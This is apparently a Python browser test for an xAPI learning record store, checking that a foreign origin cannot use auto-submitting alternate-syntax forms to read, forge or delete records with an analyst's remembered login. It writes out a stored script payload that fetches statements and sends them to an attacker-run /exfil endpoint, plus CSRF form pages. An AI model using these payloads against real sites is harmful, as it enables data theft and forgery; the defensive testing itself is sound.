"""A foreign page against a live collector, in a real Chromium that remembers an
analyst's login: its alternate-syntax forms neither render a stored document, nor store
a statement, nor delete a document.

The foreign page is served from another loopback port (another origin); the analyst has
opened a report on the LRS first, so the browser holds their Basic credentials and adds
them to every request to the LRS's origin, the foreign page's forms included.
"""

from __future__ import annotations

import base64
import html
import http.server
import json
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from live_server import LiveServer
from mirco_lms.lrs.auth import new_credential
from mirco_lms.lrs.store import open_store

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser"), pytest.mark.slow]

ACT = "https://example.org/mirco/m1"
AGENT = json.dumps({"mbox": "mailto:ana@example.org"})


class Foreign:
    """An attacker's site: pages that submit a form on load, and a log of what the
    pages' scripts managed to send home."""

    def __init__(self) -> None:
        pages: dict[str, str] = {}
        hits: list[str] = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - the http.server API
                if self.path.startswith("/exfil"):
                    hits.append(self.path)
                body = pages.get(self.path, "").encode()
                self.send_response(200 if body else 404)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        self.pages, self.hits = pages, hits
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def form_page(self, name: str, action: str, fields: dict[str, str]) -> str:
        inputs = "".join(
            f'<input type="hidden" name="{html.escape(k)}" value="{html.escape(v)}">'
            for k, v in fields.items()
        )
        self.pages[f"/{name}.html"] = (
            f'<!doctype html><form id="f" method="POST" action="{html.escape(action)}" '
            f'enctype="application/x-www-form-urlencoded">{inputs}</form>'
            "<script>document.getElementById('f').submit()</script>"
        )
        return f"{self.base}/{name}.html"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _basic(key: str, secret: str) -> str:
    return "Basic " + base64.b64encode(f"{key}:{secret}".encode()).decode()


@pytest.fixture
def lrs(tmp_path: Path) -> Iterator[LiveServer]:
    server = LiveServer(f"sqlite:///{tmp_path / 'lrs.sqlite3'}", tmp_path / "lrs.log",
                        env={"MIRCO_CREDENTIAL_CACHE_SECONDS": "0"})
    server.start()
    try:
        yield server
    finally:
        server.stop()


def _credential(lrs: LiveServer, name: str, *scopes: str) -> tuple[str, str]:
    store = open_store(lrs.db)
    try:
        credential, secret = new_credential(name, list(scopes))
        store.add_credential(credential)
    finally:
        store.close()
    return credential.key, secret


def test_a_foreign_page_cannot_use_the_alternate_syntax_against_an_analyst(
    browser: Any, lrs: LiveServer
) -> None:
    analyst = _credential(lrs, "analyst", "all")
    package = _credential(lrs, "package", "statements/write", "state")
    admin = {"Authorization": _basic(*analyst), "X-Experience-API-Version": "1.0.3"}
    foreign = Foreign()
    state = f"{lrs.url}/activities/state"
    # the attacker, holding the public package key, stores a page as a state document
    page_doc = {"activityId": ACT, "agent": AGENT, "stateId": "page"}
    script = (
        "<!doctype html><title>doc</title><script>"
        "fetch('/xapi/statements',{headers:{'X-Experience-API-Version':'1.0.3'}})"
        f".then(r=>r.text()).then(t=>{{new Image().src='{foreign.base}/exfil?'"
        "+encodeURIComponent(t.slice(0,80))}});document.title='ran'</script>"
    )
    put = httpx.put(state, params=page_doc, content=script, headers={
        "Authorization": _basic(*package), "X-Experience-API-Version": "1.0.3",
        "Content-Type": "text/html"})
    assert put.status_code == 204, put.text
    keep = {"activityId": ACT, "agent": AGENT, "stateId": "keep"}
    assert httpx.put(state, params=keep, json={"progress": 3},
                     headers=admin).status_code == 204
    sid = str(uuid.uuid4())
    statement = {"actor": {"mbox": "mailto:forged@example.org"},
                 "verb": {"id": "http://adlnet.gov/expapi/verbs/completed"},
                 "object": {"id": ACT}}
    pages = {
        "read": foreign.form_page("read", f"{state}?method=GET", {
            "X-Experience-API-Version": "1.0.3", "Authorization": _basic(*package),
            **page_doc}),
        "read-remembered": foreign.form_page(
            "read-remembered", f"{lrs.url}/statements?method=GET",
            {"X-Experience-API-Version": "1.0.3"}),
        "forge": foreign.form_page("forge", f"{lrs.url}/statements?method=PUT", {
            "X-Experience-API-Version": "1.0.3", "statementId": sid,
            "content": json.dumps(statement)}),
        "delete": foreign.form_page("delete", f"{state}?method=DELETE", {
            "X-Experience-API-Version": "1.0.3", **keep}),
    }
    lrs_origin = lrs.url.removesuffix("/xapi")
    context = browser.new_context(http_credentials={
        "username": analyst[0], "password": analyst[1], "origin": lrs_origin})
    try:
        tab = context.new_page()
        tab.set_default_timeout(10_000)
        # the analyst opens a report: the browser now holds their login
        report = tab.goto(f"{lrs_origin}/reports/completions?format=html")
        assert report is not None and report.status == 200
        answers: dict[str, tuple[int, str]] = {}
        for name in ("read-remembered", "forge", "delete"):
            # the browser answers the LRS's 401 challenge with the remembered login;
            # the final answer is the one to the request that carried it
            with tab.expect_response(
                lambda r: r.url.startswith(lrs.url) and r.status != 401
            ) as caught:
                tab.goto(pages[name])
            answers[name] = (caught.value.status, caught.value.text())
        # the document page, fetched with the package key in the form: downloaded
        # (Content-Disposition: attachment, CSP sandbox), never rendered
        with tab.expect_download() as download:
            tab.goto(pages["read"], wait_until="commit")
        assert download.value.suggested_filename
        tab.wait_for_timeout(500)
        assert tab.title() != "ran"
    finally:
        context.close()
        foreign.close()
    # 403, not 401: the remembered login did arrive, and was refused as cross-site
    assert answers["read-remembered"][0] == 403, answers
    assert all("remembered credentials" in text for _, text in answers.values())
    assert '"statements"' not in answers["read-remembered"][1]
    assert answers["forge"][0] == 403 and answers["delete"][0] == 403, answers
    assert foreign.hits == []
    got = httpx.get(f"{lrs.url}/statements", params={"statementId": sid}, headers=admin)
    assert got.status_code == 404
    assert httpx.get(state, params=keep, headers=admin).json() == {"progress": 3}
    assert httpx.get(f"{lrs.url}/statements", headers=admin).json()["statements"] == []
